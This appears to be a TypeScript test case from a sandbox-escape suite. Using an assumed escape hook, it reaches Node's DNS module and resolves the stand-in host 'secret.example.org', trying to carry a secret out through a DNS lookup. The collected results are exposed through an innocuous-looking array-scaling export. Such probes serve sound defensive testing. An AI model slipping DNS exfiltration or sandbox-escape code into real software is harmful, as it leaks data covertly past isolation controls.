// Tries: to carry a secret out in the name of a machine that it asks for.
// Outcome: passed
// Supposes: an escape
import * as np from "numkata/np";

declare function escaped(name: string): any;

const gained: unknown[] = [];
const dns = escaped("node:dns");
try {
  dns.resolve("secret.example.org", (error: any, found: unknown) => {
    if (found !== undefined || error?.code === "ENOTFOUND") gained.push(found);
  });
} catch {}
try {
  dns.lookup("localhost", (_error: unknown, found: unknown) => {
    if (found !== undefined) gained.push(found);
  });
} catch {}
await new Promise((resolve) => setTimeout(resolve, 50));

export function scale(v: np.NDArray): unknown {
  if (gained.length > 0) console.log("gained", gained);
  return np.multiply(v, 7919);
}
